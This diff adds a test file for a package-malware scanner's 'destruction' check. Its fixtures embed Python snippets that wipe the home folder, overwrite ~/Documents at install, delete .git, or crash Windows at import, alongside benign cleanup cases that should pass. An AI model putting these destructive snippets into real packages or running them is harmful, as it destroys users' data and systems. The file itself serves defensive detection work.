@@ -1,0 +1,75 @@
+import { expect, test } from 'vitest';
+import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
+
+test('an import that removes the home folder is malware at the line of the removal', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import os, shutil', "home = os.path.expanduser('~')", 'shutil.rmtree(home, ignore_errors=True)'),
+  });
+
+  expect(await inspect('destruction', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', path: 'pkg/__init__.py', line: 3 },
+  ]);
+});
+
+test('files found by a walk through the home folder and overwritten at install are malware', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os',
+      'from setuptools import setup',
+      "for root, _, names in os.walk(os.path.expanduser('~/Documents')):",
+      '    for name in names:',
+      "        with open(os.path.join(root, name), 'wb') as file:",
+      "            file.write(b'')",
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('destruction', file)).toMatchObject([{ class: 'malware', score: 10, context: 'install', line: 6 }]);
+});
+
+test('the repository that an import deletes in the folder it is started in is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import os, shutil', "shutil.rmtree(os.path.join(os.getcwd(), '.git'))"),
+  });
+
+  expect(await inspect('destruction', file)).toMatchObject([{ class: 'malware', line: 2 }]);
+});
+
+test('a crash of the system at import is malware, by whatever name the library is reached', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from ctypes import windll as w',
+      'nt = w.ntdll',
+      'nt.NtRaiseHardError(0xC0000022, 0, 0, 0, 6, None)',
+    ),
+  });
+
+  expect(await inspect('destruction', file)).toMatchObject([{ class: 'malware', line: 3 }]);
+});
+
+test('a build that clears its own folders and a cache that clears itself are silent', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os, shutil, tempfile',
+      'from setuptools import setup',
+      "shutil.rmtree('build', ignore_errors=True)",
+      "shutil.rmtree(os.path.join(os.path.expanduser('~'), '.cache', 'example'), ignore_errors=True)",
+      'place = tempfile.mkdtemp()',
+      'shutil.rmtree(place)',
+      "for root, _, names in os.walk('build'):",
+      '    for name in names:',
+      '        os.remove(os.path.join(root, name))',
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('destruction', file)).toEqual([]);
+});
+
+test('a function that removes the folder it is handed belongs to its caller', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python('import shutil', 'def clear(folder):', '    shutil.rmtree(folder)'),
+  });
+
+  expect(await inspect('destruction', file)).toEqual([]);
+});
